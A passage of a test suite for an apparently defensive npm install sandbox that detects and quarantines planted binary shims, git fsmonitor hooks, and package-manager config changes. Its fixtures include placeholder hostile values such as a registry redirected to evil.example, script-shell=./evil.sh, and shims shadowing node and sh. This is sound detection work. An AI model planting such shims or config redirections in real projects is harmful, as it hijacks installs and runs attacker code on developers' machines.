    file("node_modules/.pnpm/esb@1.0.0/node_modules/esb/package.json", "{}");
    file("node_modules/.pnpm/node_modules/esb/package.json", "{}");
    const { moved } = around(() => {
      file("node_modules/esb/node_modules/.bin/node", "#!/bin/sh\nevil\n");
      file("node_modules/.pnpm/esb@1.0.0/node_modules/.bin/sh", "#!/bin/sh\nevil\n");
      file("node_modules/.pnpm/node_modules/.bin/node", "#!/bin/sh\nevil\n");
      file("node_modules/.pnpm/esb@1.0.0/node_modules/.bin/esbuild", "shadows nothing");
    });
    expect(moved).toEqual([
      "node_modules/.pnpm/esb@1.0.0/node_modules/.bin/sh",
      "node_modules/.pnpm/node_modules/.bin/node",
      "node_modules/esb/node_modules/.bin/node",
    ]);
  });

  it("moves one in every node_modules/.bin a bare lifecycle script has on PATH, at any depth", () => {
    file("node_modules/a/node_modules/b/node_modules/c/package.json", "{}");
    file("node_modules/@s/q/package.json", "{}");
    const { moved } = around(() => {
      file("node_modules/a/node_modules/b/node_modules/.bin/node", "#!/bin/sh\nevil\n");
      // No manager makes a node_modules in a node_modules or an @scope folder: npm's set-path
      // puts its .bin on PATH for every package below.
      file("node_modules/node_modules/.bin/node", "#!/bin/sh\nevil\n");
      file("node_modules/@s/node_modules/.bin/sh", "#!/bin/sh\nevil\n");
    });
    expect(moved).toEqual([
      "node_modules/@s/node_modules",
      "node_modules/a/node_modules/b/node_modules/.bin/node",
      "node_modules/node_modules",
    ]);
  });

  it("moves a changed one, not one re-created with equal content (npm ci)", () => {
    file("node_modules/git-wrap/cli.js", "x");
    link("../git-wrap/cli.js", "node_modules/.bin/git");
    file("node_modules/.bin/env", '#!/bin/sh\nexec /usr/bin/env "$@"\n');
    const recreate = around(() => {
      rmSync(join(root, "node_modules"), { recursive: true });
      file("node_modules/git-wrap/cli.js", "x");
      link("../git-wrap/cli.js", "node_modules/.bin/git");
      file("node_modules/.bin/env", '#!/bin/sh\nexec /usr/bin/env "$@"\n');
    });
    expect(recreate.moved).toEqual([]);
    const changed = around(() => {
      rmSync(join(root, "node_modules/.bin/git"));
      link("../evil.js", "node_modules/.bin/git");
      file("node_modules/.bin/env", "#!/bin/sh\nevil\n");
    });
    expect(changed.moved).toEqual(["node_modules/.bin/env", "node_modules/.bin/git"]);
  });

  it("moves a node_modules or .bin replaced by a link", () => {
    file("evil/.bin/sh", "evil");
    file("w/package.json", "{}");
    file("node_modules/x/package.json", "{}");
    const { moved } = around(() => {
      rmSync(join(root, "node_modules"), { recursive: true });
      file("node_modules/x/package.json", "{}");
      link("../../evil/.bin", "node_modules/.bin");
      link("../evil", "w/node_modules");
    });
    expect(moved).toEqual(["node_modules/.bin", "w/node_modules"]);
  });

  // pnpm's shims look for an interpreter's absolute path inside .bin (`.bin//bin/sh`).
  const INTERPRETER_ROOTS = ["bin", "sbin", "usr", "opt", "nix", "snap", "lib", "lib64"];

  it("gathers the host's command names from the directories given, and interpreter roots", () => {
    file("bin1/sh");
    file("bin2/bwrap");
    expect(systemCommands([join(root, "bin1"), join(root, "bin2"), join(root, "none")])).toEqual(
      new Set(["sh", "bwrap", ...systemCommands([])]),
    );
  });

  it("reads a directory reached twice through a link once, with the same names", () => {
    file("usr/bin/sh");
    file("usr/sbin/iptables");
    link("usr/bin", "bin");
    expect(
      systemCommands([join(root, "usr/bin"), join(root, "bin"), join(root, "usr/sbin")]),
    ).toEqual(new Set(["sh", "iptables", ...INTERPRETER_ROOTS]));
  });
});

describe("snapshot and check: limits on what is read", () => {
  it("fingerprints a 1 TiB sparse hook by its head, size and identity without reading it all", () => {
    file("vendor/a/.git/config");
    const big = join(root, "vendor/a/.git/hooks/zz-big");
    file("vendor/a/.git/hooks/zz-big");
    truncateSync(big, 2 ** 40);
    // Unchanged: nothing moved, and the snapshot and check both return.
    expect(around(() => {}).moved).toEqual([]);
    // Changed beyond the hashed first MiB, size kept: caught by ctime.
    const { moved } = around(() => {
      const fd = openSync(big, "r+");
      writeSync(fd, "evil", 2 ** 30);
      closeSync(fd);
    });
    expect(moved).toEqual(["vendor/a/.git"]);
  });
});

describe("snapshot and check: directories that cannot be listed", () => {
  const asRoot = process.getuid?.() === 0;
  if (asRoot) {
    console.log(
      "skipping the unlistable-directory test: root lists every directory (CAP_DAC_READ_SEARCH); the e2e suite runs it unprivileged",
    );
  }
  it.skipIf(asRoot)("moves a directory made unlistable inside, not one unlistable before", () => {
    file("packages/app/package.json", "{}");
    file("private/secret", "x");
    chmodSync(join(root, "private"), 0o311);
    try {
      const { moved, findings } = around(() => {
        file("packages/app/.git/config", "[core]\n\tfsmonitor = evil\n");
        chmodSync(join(root, "packages"), 0o311);
        mkdirSync(join(root, "fresh"), { mode: 0o311 });
      });
      expect(moved).toEqual(["fresh", "packages"]);
      expect(findings.map((f) => f.kind)).toEqual(["unlistable", "unlistable"]);
    } finally {
      for (const dir of [
        "private",
        "packages.quarantined-by-safe-npm",
        "fresh.quarantined-by-safe-npm",
      ]) {
        if (existsSync(join(root, dir))) chmodSync(join(root, dir), 0o755);
      }
    }
  });
});

describe("snapshot and check: package-manager config in sub-projects", () => {
  it("moves a HOST_RUN_FILES file created or changed beside a nested package.json or node_modules", () => {
    file("docs/package.json", "{}");
    file("docs/.npmrc", "save-exact=true\n");
    file("packages/a/package.json", "{}");
    file("packages/b/node_modules/x/package.json", "{}");
    file("notes/.npmrc", "not a project\n");
    const { moved, findings } = around(() => {
      file("docs/.npmrc", "save-exact=true\nregistry=https://evil.example/\n");
      file("packages/a/.npmrc", "script-shell=./evil.sh\n");
      file("packages/b/.yarnrc.yml", "yarnPath: evil.cjs\n");
      file("packages/a/.pnpmfile.cjs", "evil\n");
      file("notes/.npmrc", "still not a project\n");
    });
    expect(moved).toEqual([
      "docs/.npmrc",
      // Not a project, but yarn reads the rc files of every folder above where it runs.
      "notes/.npmrc",
      "packages/a/.npmrc",
      "packages/a/.pnpmfile.cjs",
      "packages/b/.yarnrc.yml",
    ]);
    expect(new Set(findings.map((f) => f.kind))).toEqual(new Set(["pmconfig"]));
    expect(around(() => {}).moved).toEqual([]);
  });

  it("moves an rc file new in a folder between projects, and a changed sub-project's yarn release", () => {
    file("website/package.json", "{}");
    file("website/.yarn/releases/yarn-4.cjs", "// yarn\n");
    file("website/.yarn/plugins/@yarnpkg/plugin-x.cjs", "// plugin\n");
    file("packages/app/package.json", "{}");
    const { moved } = around(() => {
      file("website/.yarn/releases/yarn-4.cjs", "evil()\n");
      file("website/.yarn/plugins/@yarnpkg/plugin-x.cjs", "evil()\n");
      file("packages/.yarnrc.yml", "yarnPath: ../.evil.cjs\n");
    });
    expect(moved).toEqual([
      "packages/.yarnrc.yml",
      "website/.yarn/plugins/@yarnpkg/plugin-x.cjs",
      "website/.yarn/releases/yarn-4.cjs",
    ]);
  });
});

describe("snapshot and check: safe-npm's own settings", () => {
  it("moves a settings file made or changed inside, in any folder", () => {
    file("package.json", "{}");
    file(".sandboxrc.json", '{"protect":[".git"]}\n');
    const { moved, findings } = around(() => {
      file(".sandboxrc.json", '{"dotfiles":[".npmrc"]}\n');
      file("packages/a/.sandboxrc.yml", "dotfiles: [.npmrc]\n");
      file("notes/.sandboxrc", "{}\n");
    });
    expect(moved).toEqual([".sandboxrc.json", "notes/.sandboxrc", "packages/a/.sandboxrc.yml"]);
    expect(new Set(findings.map((f) => f.kind))).toEqual(new Set(["settings"]));
  });

  it("walks the data folders of a root made git-shaped inside; a settings file put back as it was is no change", () => {
    file("package.json", "{}");
    file(".sandboxrc.json", '{"protect":[".git"]}\n');
    const { moved } = around(() => {
      file("HEAD", "ref: refs/heads/main\n");
      mkdirSync(join(root, "objects"));
      file("refs/heads/x", "");
      file("logs/app/.sandboxrc.json", '{"dotfiles":[".npmrc"]}\n');
    });
    expect(moved).toContain("logs/app/.sandboxrc.json");
    expect(moved).toContain("HEAD");
    // Removed, then restored by hand with the same content (another inode): nothing to report.
    const rc = join(root, ".sandboxrc.json");
    const again = around(() => {
      rmSync(rc);
      writeFileSync(rc, '{"protect":[".git"]}\n');
    });
    expect(again.findings).toEqual([]);
  });

  it("stops on a package.json sandbox key set or changed (BOM or not), never on other edits", () => {
    file("package.json", '{"name":"app","sandbox":{"protect":[".git"]}}');
    file("packages/a/package.json", '{"name":"a"}');
    file("packages/b/package.json", '{"name":"b"}');
    const { findings } = around(() => {
      // An install's own edit: dependencies added, the sandbox key as it was.
      file(
        "package.json",
        '{\n  "name": "app",\n  "sandbox": { "protect": [".git"] },\n  "dependencies": {"x":"1"}\n}',
      );
      file("packages/a/package.json", '\uFEFF{"name":"a","sandbox":{"dotfiles":[".npmrc"]}}');
      file("packages/b/package.json", '{"name":"b","sandbox":{"env":["TOKEN"]}}');
      file("packages/c/package.json", '{"name":"c","sandbox":{"network":{"run":"full"}}}');
    });
    expect(findings.map((f) => [f.path.slice(root.length + 1), f.kind, f.movedTo])).toEqual([
      ["packages/a/package.json", "settings", null],
      ["packages/b/package.json", "settings", null],
      ["packages/c/package.json", "settings", null],
    ]);
    // What a run's trust record is kept against: the key's JSON, as the settings loader has it.
    expect(findings[1]?.settingsContent).toBe('{"env":["TOKEN"]}');
    expect(describeFinding(findings[1] as Finding)).toContain("--trust-config will not trust");
    // Removing the key is a change too (what it narrowed would be open).
    const removed = around(() => file("package.json", '{"name":"app"}')).findings;
    expect(removed.map((f) => [f.kind, f.movedTo, f.error])).toEqual([
      ["settings", null, expect.stringContaining("was removed")],
    ]);
  });

  it("a folder made a project of its own below settings: its lockfile is moved aside, a workspaces key stops the run", () => {
    file("package.json", '{"name":"mono","workspaces":["packages/*"]}');
    file("package-lock.json", "{}");
    file("packages/.sandboxrc.json", '{"protect":[".git","packages/a/.env"]}');
    file("packages/a/package.json", '{"name":"a"}');
    file("packages/b/package.json", '{"name":"b"}');
    const { moved, findings } = around(() => {
      file("packages/a/bun.lock", "{}");
      file("packages/b/package.json", '{"name":"b","workspaces":[]}');
    });
    expect(moved).toEqual(["packages/a/bun.lock"]);
    expect(
      findings.map((f) => [f.path.slice(root.length + 1), f.kind, f.movedTo === null]),
    ).toEqual([
      ["packages/a/bun.lock", "anchor", false],
      ["packages/b/package.json", "anchor", true],
    ]);
    expect(describeFinding(findings[0] as Finding)).toContain(
      `a run from there would no longer apply ${join(root, "packages", ".sandboxrc.json")}`,
    );
    expect(describeFinding(findings[1] as Finding)).toContain("`workspaces` key was set");
  });

  it("a package.json made beside a lockfile or workspace file a folder had is what is moved aside", () => {
    file("package.json", '{"name":"mono"}');
    file("package-lock.json", "{}");
    file(".sandboxrc.json", '{"protect":[".git","tools/.env"]}');
    file("tools/yarn.lock", "# the user's\n");
    file("docs/pnpm-workspace.yaml", "packages: []\n");
    const { moved, findings } = around(() => {
      file("tools/package.json", '{"name":"t"}');
      file("docs/package.json", '{"name":"d"}');
    });
    expect(moved).toEqual(["docs/package.json", "tools/package.json"]);
    expect(new Set(findings.map((f) => f.kind))).toEqual(new Set(["anchor"]));
    expect(readFileSync(join(root, "tools/yarn.lock"), "utf8")).toBe("# the user's\n");
  });

  it("a folder made a project of its own where no settings apply is left alone; the root's lockfile removed under settings stops the run", () => {
    file("package.json", '{"name":"app"}');
    file("package-lock.json", "{}");
    file("packages/a/package.json", '{"name":"a"}');
    expect(around(() => file("packages/a/package-lock.json", "{}")).findings).toEqual([]);
    file(".sandboxrc.json", '{"protect":[".git","packages/a/.env"]}');
    const { findings } = around(() => rmSync(join(root, "package-lock.json")));
    expect(findings.map((f) => [f.path.slice(root.length + 1), f.kind, f.movedTo])).toEqual([
      ["package-lock.json", "anchor", null],
    ]);
    expect(describeFinding(findings[0] as Finding)).toContain("was removed");
  });
});

describe("snapshot and check: upgrading a project-local safe-npm", () => {
  const pkg = (version: string): string => JSON.stringify({ name: "safe-npm", version });
  let dist: string;
  const running = (): RunningSelf => ({ version: "2.0.0", dist });
  beforeEach(() => {
    file("running/dist/cli.cjs", "the running cli");
    file("running/dist/lib/x.js", "x");
    dist = join(root, "running/dist");
    file("package.json", JSON.stringify({ devDependencies: { "safe-npm": "^1.0.0" } }));
    file("package-lock.json", npmLock("1.0.0"));
    file("node_modules/safe-npm/package.json", pkg("1.0.0"));
    file("node_modules/safe-npm/dist/cli.cjs", "cli 1");
  });
  const upgrade = (version: string, cli: string, lock: string | null) =>
    around(
      () => {
        if (lock !== null) file("package-lock.json", lock);
        file("node_modules/safe-npm/package.json", pkg(version));
        file("node_modules/safe-npm/dist/cli.cjs", cli);
      },
      { install: true, running: running() },
    );

  it("moves a version bump the lockfile does not name", () => {
    expect(upgrade("1.1.0", "evil", null).moved).toEqual(["node_modules/safe-npm"]);
  });

  it("keeps one the lockfile names, at a version other than the running one", () => {
    const r = upgrade("1.1.0", "cli 1.1", npmLock("1.1.0"));
    expect(r.moved).toEqual([]);
    expect(r.findings[0]?.upgrade).toEqual({ from: "1.0.0", to: "1.1.0" });
  });

  it("at the running version, keeps it only when its files are the running copy's", () => {
    expect(upgrade("2.0.0", "evil", npmLock("2.0.0")).moved).toEqual(["node_modules/safe-npm"]);
    rmSync(join(root, "node_modules"), { recursive: true });
    file("package-lock.json", npmLock("1.0.0"));
    file("node_modules/safe-npm/package.json", pkg("1.0.0"));
    file("node_modules/safe-npm/dist/cli.cjs", "cli 1");
    const r = around(
      () => {
        file("package-lock.json", npmLock("2.0.0"));
        file("node_modules/safe-npm/package.json", pkg("2.0.0"));
        file("node_modules/safe-npm/README.md", "docs");
        file("node_modules/safe-npm/dist/cli.cjs", "the running cli");
        file("node_modules/safe-npm/dist/lib/x.js", "x");
      },
      { install: true, running: running() },
    );
    expect(r.moved).toEqual([]);
    // The same, with a file beside dist/ that could be run: moved.
    rmSync(join(root, "node_modules"), { recursive: true });
    file("package-lock.json", npmLock("1.0.0"));
    file("node_modules/safe-npm/package.json", pkg("1.0.0"));
    const extra = around(
      () => {
        file("package-lock.json", npmLock("2.0.0"));
        file("node_modules/safe-npm/package.json", pkg("2.0.0"));
        file("node_modules/safe-npm/dist/cli.cjs", "the running cli");
        file("node_modules/safe-npm/dist/lib/x.js", "x");
        file("node_modules/safe-npm/evil.js", "evil");
      },
      { install: true, running: running() },
    );
    expect(extra.moved).toEqual(["node_modules/safe-npm"]);
  });

  it("reads the version from pnpm-lock.yaml, yarn.lock and bun.lock", () => {
    const self = join(root, "node_modules/safe-npm");
    rmSync(join(root, "package-lock.json"));
    file(
      "pnpm-lock.yaml",
      "lockfileVersion: '9.0'\n\nimporters:\n\n  .:\n    devDependencies:\n      safe-npm:\n        specifier: ^1.0.0\n        version: 1.2.0\n      other:\n        specifier: ^1.0.0\n        version: 1.3.0\n\npackages:\n",
    );
    expect(lockfileNames(root, root, self, "1.2.0")).toBe(true);
    expect(lockfileNames(root, root, self, "1.3.0")).toBe(false);
    rmSync(join(root, "pnpm-lock.yaml"));
    file("yarn.lock", '"safe-npm@npm:^1.0.0":\n  version: 1.2.0\n  resolution: "x"\n');
    expect(lockfileNames(root, root, self, "1.2.0")).toBe(true);
    file("yarn.lock", 'safe-npm@^1.0.0:\n  version "1.2.1"\n');
    expect(lockfileNames(root, root, self, "1.2.1")).toBe(true);
    expect(lockfileNames(root, root, self, "1.2.0")).toBe(false);
    rmSync(join(root, "yarn.lock"));
    file(
      "bun.lock",
      '{\n  "packages": {\n    "safe-npm": ["safe-npm@1.2.0", "", {}, "sha512-x"],\n  }\n}\n',
    );
    expect(lockfileNames(root, root, self, "1.2.0")).toBe(true);
    rmSync(join(root, "bun.lock"));
    expect(lockfileNames(root, root, self, "1.2.0")).toBe(false);
    // A workspace's safe-npm, named in the root lockfile under its path.
    file("package-lock.json", npmLock("1.4.0", "packages/a/node_modules/safe-npm"));
    const ws = join(root, "packages/a");
    expect(lockfileNames(root, ws, join(ws, "node_modules/safe-npm"), "1.4.0")).toBe(true);
  });
});

describe("snapshot and check: names that are not UTF-8", () => {
  it("moves aside a new entry whose name is not valid UTF-8 (it would hide a planted repository)", () => {
    const odd = Buffer.concat([Buffer.from(join(root, "evil")), Buffer.from([0xff])]);
    const { findings } = around(() => {
      mkdirSync(Buffer.concat([odd, Buffer.from("/.git")]), { recursive: true });
    });
    expect(findings.map((f) => f.kind)).toEqual(["oddname"]);
    expect(describeFinding(findings[0] as Finding)).toContain(
      `moved ${join(root, "evil")}\\xff to`,
    );
    expect(existsSync(odd)).toBe(false);
    expect(existsSync(Buffer.concat([odd, Buffer.from(".quarantined-by-safe-npm")]))).toBe(true);
  });

  it("leaves one alone that was there before the run", () => {
    mkdirSync(Buffer.concat([Buffer.from(join(root, "old")), Buffer.from([0xfe])]));
    expect(around(() => {}).findings).toEqual([]);
  });
});

describe("yarnLockBins", () => {
  const berry = (body: string): string =>
    `# This file is generated by running "yarn install" inside your project.\n# Manual changes might be lost - proceed with caution!\n\n__metadata:\n  version: 8\n  cacheKey: 10c0\n\n${body}`;

  it("reads the bin maps of every entry, names quoted or not, descriptors as one key", () => {
    const text = berry(
      [
        '"evil@file:./evil.tgz::locator=app%40workspace%3A.":',
        "  version: 1.0.0",
        '  resolution: "evil@file:./evil.tgz#./evil.tgz::hash=abc&locator=app%40workspace%3A."',
        "  bin:",
        "    git: pwn.js",
        '    "safe-npm": "./pwn.js"',
        "  checksum: 10c0/abc",
        "  languageName: node",
        "  linkType: hard",
        "",
        '"tool@npm:^1.0.0, tool@npm:^1.2.0":',
        "  version: 1.2.0",
        "  dependencies:",
        '    left-pad: "npm:^1.0.0"',
        "  dependenciesMeta:",
        "    left-pad:",
        "      optional: true",
        "  bin:",
        "    git: bin/git.js",
        "    tool: bin/tool.js",
        "",
        '"app@workspace:.":',
        "  version: 0.0.0-use.local",
        "  dependencies:",
        '    evil: "file:./evil.tgz"',
        '    tool: "npm:^1.2.0"',
        "  languageName: unknown",
        "",
      ].join("\n"),
    );
    expect(yarnLockBins(text)).toEqual(
      new Map([
        [
          "git",
          ["evil@file:./evil.tgz::locator=app%40workspace%3A.", "tool@npm:^1.0.0, tool@npm:^1.2.0"],
        ],
        ["safe-npm", ["evil@file:./evil.tgz::locator=app%40workspace%3A."]],
        ["tool", ["tool@npm:^1.0.0, tool@npm:^1.2.0"]],
      ]),
    );
  });

  it("reads a key spelled with escapes as yarn does", () => {
    const text =
      '"\\u005f_metadata":\n  version: 8\n\n"x@npm:1":\n  bin:\n    "\\u0067it": x.js\n\n"app@workspace:.":\n  dependencies:\n    x: "npm:1"\n';
    expect(yarnLockBins(text)).toEqual(new Map([["git", ["x@npm:1"]]]));
  });

  it("names bins as yarn's Manifest does: a scoped key's name part, a string bin after the package", () => {
    const text = berry(
      [
        '"evil@npm:1":',
        "  bin:",
        '    "@evil/node": evil.js',
        "",
        '"other@npm:1":',
        "  name: git",
        "  bin: evil.js",
        "",
        '"app@workspace:.":',
        "  dependencies:",
        '    evil: "npm:1"',
        '    other: "npm:1"',
        "",
      ].join("\n"),
    );
    expect(yarnLockBins(text)).toEqual(
      new Map([
        ["node", ["evil@npm:1"]],
        ["git", ["other@npm:1"]],
        ["other", ["other@npm:1"]],
      ]),
    );
  });

  it("takes only the bins of the workspaces and their direct dependencies, which `yarn <script>` sees", () => {
    const text = berry(
      [
        '"a@npm:1":',
        "  dependencies:",
        '    which: "npm:^1"',
        "",
        '"which@npm:^1":',
        "  bin:",
        "    which: bin/which",
        "",
        '"app@workspace:.":',
        "  bin:",
        "    git: ./git.js",
        "  dependencies:",
        '    a: "npm:1"',
        "",
      ].join("\n"),
    );
    expect(yarnLockBins(text)).toEqual(new Map([["git", ["app@workspace:."]]]));
  });

  it("counts an entry as direct when any descriptor of its key is a workspace's dependency", () => {
    // yarn maps every descriptor of a key to the entry: a decoy put first hides nothing.
    const text = berry(
      [
        '"zzz@npm:1.0.0, evil@file:vendor/evil.tgz::locator=app%40workspace%3A.":',
        "  bin:",
        "    node: evil.js",
        "",
        '"app@workspace:.":',
        "  dependencies:",
        '    evil: "file:vendor/evil.tgz"',
        "",
      ].join("\n"),
    );
    expect(yarnLockBins(text)).toEqual(
      new Map([
        ["node", ["zzz@npm:1.0.0, evil@file:vendor/evil.tgz::locator=app%40workspace%3A."]],
      ]),
    );
  });

  it("takes no bins from a yarn 1 lockfile, or one with no __metadata", () => {
    const yarn1 = [
      "# THIS IS AN AUTOGENERATED FILE. DO NOT EDIT THIS FILE DIRECTLY.",
      "# yarn lockfile v1",
      "",
      "",
      '"@babel/code-frame@^7.0.0", "@babel/code-frame@^7.10.4":',
      '  version "7.12.13"',
      '  resolved "https://registry.yarnpkg.com/@babel/code-frame/-/code-frame-7.12.13.tgz#dcfc"',
      "  integrity sha512-HV1Cm0Q3ZrpCR93tkWOYiuYIgLxZXZFVG2VgK+MBWjUqZ==",
      "  dependencies:",
      '    "@babel/highlight" "^7.12.13"',
      "",
      "abbrev@1:",
      '  version "1.1.1"',
      "  optional true",
      "",
    ].join("\n");
    expect(yarnLockBins(yarn1)).toBeNull();
    expect(yarnLockBins('"x@npm:1":\n  bin:\n    git: x.js\n')).toBeNull();
    expect(yarnLockBins("")).toBeNull();
  });

  it("takes a lockfile in a shape yarn does not write for irregular: yarn's YAML fallback reads more", () => {
    for (const body of [
      '"x@npm:1":\n  bin: {git: x.js}\n',
      '"x@npm:1":\n  bin:\n    git: x.js \n',
      '"x@npm:1":\n  version: 1\n    git: x.js\n',
      '"x@npm:1":\n  bin:\n    ? git\n    : x.js\n',
      "\"x@npm:1\":\n  bin:\n    'git': x.js\n",
      '"x@npm:1":\r\n  bin:\r\n    git: x.js\r\n',
      '"x@npm:1":\n  bin: !!map\n    git: x.js\n',
    ]) {
      expect(yarnLockBins(berry(body)), body).toBe("irregular");
    }
    // yarn 1's shape with a key that would be yarn 2's metadata.
    expect(yarnLockBins('"__metadata":\n  version "8"\n')).toBe("irregular");
    expect(yarnLockBins('[__metadata]:\n  version "8"\n')).toBe("irregular");
  });
});

describe("snapshot and check: bins yarn.lock declares (yarn 2+)", () => {
  const lock = (entries: Record<string, Record<string, string>>): string =>
    [
      "__metadata:",
      "  version: 8",
      "",
      // The workspace names every entry as a dependency: their bins reach its scripts.
      '"app@workspace:.":',
      "  dependencies:",
      ...Object.keys(entries).map(
        (key) => `    ${JSON.stringify(key.slice(0, key.indexOf("@", 1)))}: "x"`,
      ),
      "",
      ...Object.entries(entries).flatMap(([key, bins]) => [
        `${JSON.stringify(key)}:`,
        "  version: 1.0.0",
        "  bin:",
        ...Object.entries(bins).map(([name, path]) => `    ${JSON.stringify(name)}: ${path}`),
        "",
      ]),
    ].join("\n");

  it("reports a new bin named safe-npm, node or like a host command, unmoved; not one that shadows nothing", () => {
    file("package.json", "{}");
    file("yarn.lock", lock({ "tsc@npm:5": { tsc: "bin/tsc" } }));
    const { moved, findings } = around(() => {
      file(
        "yarn.lock",
        lock({
          "tsc@npm:5": { tsc: "bin/tsc" },
          "evil@file:./evil.tgz": { "safe-npm": "pwn.js", git: "pwn.js", "node.exe": "pwn.js" },
        }),
      );
    });
    expect(moved).toEqual([]);
    expect(findings.map((f) => [f.kind, f.path, f.movedTo])).toEqual([
      ["yarnbin", join(root, "yarn.lock"), null],
      ["yarnbin", join(root, "yarn.lock"), null],
      ["yarnbin", join(root, "yarn.lock"), null],
    ]);
    const text = findings.map(describeFinding).join("");
    for (const name of ["git", "node.exe", "safe-npm"]) {
      expect(text).toContain(
        `"evil@file:./evil.tgz" in yarn.lock declares a bin named \`${name}\``,
      );
    }
    expect(text).toContain("a bare `yarn <script>` on the host would run");
    expect(text).toContain("remove that dependency, or if you trust it, run again");
    expect(existsSync(join(root, "yarn.lock"))).toBe(true);
  });

  it("reports nothing for a declaration there before, or one whose declaring entries only went", () => {
    file(
      "yarn.lock",
      lock({ "a@npm:1": { git: "a.js" }, "b@npm:1": { git: "b.js", node: "n.js" } }),
    );
    expect(
      around(() => {
        file("yarn.lock", lock({ "a@npm:1": { git: "a.js" } }));
      }).findings,
    ).toEqual([]);
  });

  it("reports a declaring entry added beside one there before", () => {
    file("yarn.lock", lock({ "a@npm:1": { git: "a.js" } }));
    const { findings } = around(() => {
      file("yarn.lock", lock({ "a@npm:1": { git: "a.js" }, "a@npm:2": { git: "a.js" } }));
    });
    expect(findings.map(describeFinding)).toEqual([
      expect.stringContaining('the entry "a@npm:2" in yarn.lock declares a bin named `git`'),
    ]);
  });

  it("ignores a yarn 1 lockfile", () => {
    expect(
      around(() => {
        file("yarn.lock", '# yarn lockfile v1\n\n\ngit@1:\n  version "1.0.0"\n');
      }).findings,
    ).toEqual([]);
  });

  it("reports a yarn.lock made a link, a FIFO or irregular; not one that was so before and is unchanged", () => {
    file("yarn.lock", lock({}));
    const made = (during: () => void): string[] =>
      around(during).findings.map((f) => `${f.kind} ${f.movedTo} ${describeFinding(f)}`);
    const out = made(() => {
      rmSync(join(root, "yarn.lock"));
      link("elsewhere.lock", "yarn.lock");
    });
    expect(out).toEqual([expect.stringContaining("yarnbin null")]);
    expect(out[0]).toContain("yarn.lock was made a link or a special file");
    expect(out[0]).toContain("put yarn.lock back");

    rmSync(join(root, "yarn.lock"));
    spawnSync("mkfifo", [join(root, "yarn.lock")]);
    expect(made(() => {})).toEqual([]);
    rmSync(join(root, "yarn.lock"));
    file("yarn.lock", lock({}));
    expect(
      made(() => {
        file("yarn.lock", `${lock({})}"x@npm:1":\n  bin: {git: x.js}\n`);
      }),
    ).toEqual([expect.stringContaining("yarnbin null")]);
  });
});

describe("snapshot and check: yarn 2+'s install state", () => {
  /** What yarn 4.x wrote for a project depending on a `file:` tarball with bins `git` and `tool`. */
  const fixture = (name: string): Buffer =>
    readFileSync(new URL(`./yarn4-state/${name}`, import.meta.url));
  const STATE = ".yarn/install-state.gz";
  /** yarn's state in yarn's shape (v8.serialize, gzip): `bins` by package name. */
  const state = (bins: Record<string, Record<string, string>>): Buffer =>
    gzipSync(
      serialize({
        linkersCustomData: new Map(),
        accessibleLocators: new Set(),
        storedDescriptors: new Map(),
        storedResolutions: new Map(),
        storedPackages: new Map(
          Object.entries(bins).map(([name, map]) => [
            `${name}-hash`,
            {
              identHash: `${name}-ident`,
              scope: null,
              name,
              locatorHash: `${name}-hash`,
              reference: "npm:1.0.0",
              version: "1.0.0",
              languageName: "node",
              linkType: "HARD",
              conditions: null,
              dependencies: new Map(),
              peerDependencies: new Map(),
              dependenciesMeta: new Map(),
              peerDependenciesMeta: new Map(),
              bin: new Map(Object.entries(map)),
            },
          ]),
        ),
        lockFileChecksum: "10c0/abc",
        skippedBuilds: new Set(),
        storedBuildState: new Map(),
      }),
    );
  /** The fixture project: its yarn.lock declares `git` (watched) and `tool`. */
  const project = (): void => {
    file("package.json", "{}");
    file("yarn.lock", fixture("yarn.lock").toString());
    file(STATE, "");
    writeFileSync(join(root, STATE), fixture("install-state.gz"));
  };

  it("reads the bin names of yarn 4's own state; null for what yarn does not write", () => {
    expect(yarnStateBins(fixture("install-state.gz"))?.get("tool")).toEqual(
      new Set(["git", "tool"]),
    );
    expect(yarnStateBins(state({ a: { git: "a.js" }, b: {} }))).toEqual(
      new Map([
        ["a", new Set(["git"])],
        ["b", new Set()],
      ]),
    );
    const shaped = (value: unknown): Map<string, Set<string>> | null =>
      yarnStateBins(gzipSync(serialize(value)));
    expect(shaped({ storedPackages: new Map() })).toEqual(new Map());
    for (const value of [
      null,
      "state",
      [new Map()],
      new Map([["storedPackages", new Map()]]),
      {},
      { storedPackages: { a: { bin: new Map() } } },
      { storedPackages: new Map([["a", null]]) },
      { storedPackages: new Map([["a", { bin: { git: "a.js" } }]]) },
      { storedPackages: new Map([["a", {}]]) },
      { storedPackages: new Map([["a", { bin: new Map([[1, "a.js"]]) }]]) },
    ]) {
      expect(shaped(value), JSON.stringify(value)).toBeNull();
    }
    expect(yarnStateBins(Buffer.from("not gzip"))).toBeNull();
    // yarn writes each wrapper at path.join(folder, name): a name with a path step is no name.
    for (const name of ["./node", "../../x/git", "a\\b", ".", ".."]) {
      expect(yarnStateBins(state({ a: { [name]: "a.js" } })), name).toBeNull();
    }
    expect(yarnStateBins(gzipSync("not v8 data"))).toBeNull();
    expect(yarnStateBins(Buffer.alloc(0))).toBeNull();
  });

  /** The workspace depends on `a`, which depends on `which` (a bin named like a host command). */
  const WHICH_LOCK = [
    "__metadata:",
    "  version: 8",
    "",
    '"a@npm:1":',
    "  dependencies:",
    '    which: "npm:^1"',
    "",
    '"which@npm:^1":',
    "  bin:",
    "    which: bin/which",
    "",
    '"app@workspace:.":',
    "  dependencies:",
    '    a: "npm:1"',
    "",
  ].join("\n");

  it("takes a dependency's own dependency's bin in the state as declared: yarn.lock declares it", () => {
    file("package.json", "{}");
    file("yarn.lock", WHICH_LOCK);
    const { moved, findings } = around(
      () => {
        file(STATE, "");
        writeFileSync(join(root, STATE), state({ a: {}, which: { which: "bin/which" } }));
      },
      { commands: new Set(["which"]) },
    );
    expect(moved).toEqual([]);
    expect(findings).toEqual([]);
  });

  it("moves aside a state giving a package a bin yarn.lock declares only for another one", () => {
    file("package.json", "{}");
    file("yarn.lock", WHICH_LOCK);
    // `a` is the direct dependency: a `which` of its own would be on `yarn <script>`'s PATH.
    const { moved } = around(
      () => {
        file(STATE, "");
        writeFileSync(
          join(root, STATE),
          state({ a: { which: "x.js" }, which: { which: "bin/which" } }),
        );
      },
      { commands: new Set(["which"]) },
    );
    expect(moved).toEqual([STATE]);
  });

  it("matches the state's packages to yarn.lock's entries by their resolution, not a decoy descriptor", () => {
    file("package.json", "{}");
    const lock = [
      "__metadata:",
      "  version: 8",
      "",
      '"a@npm:1":',
      '  resolution: "a@npm:1.0.0"',
      "  dependencies:",
      '    which: "npm:^1"',
      "",
      // A key that also names `a`: the entry is still which's.
      '"a@npm:^1, which@npm:^1":',
      '  resolution: "which@npm:1.3.1"',
      "  bin:",
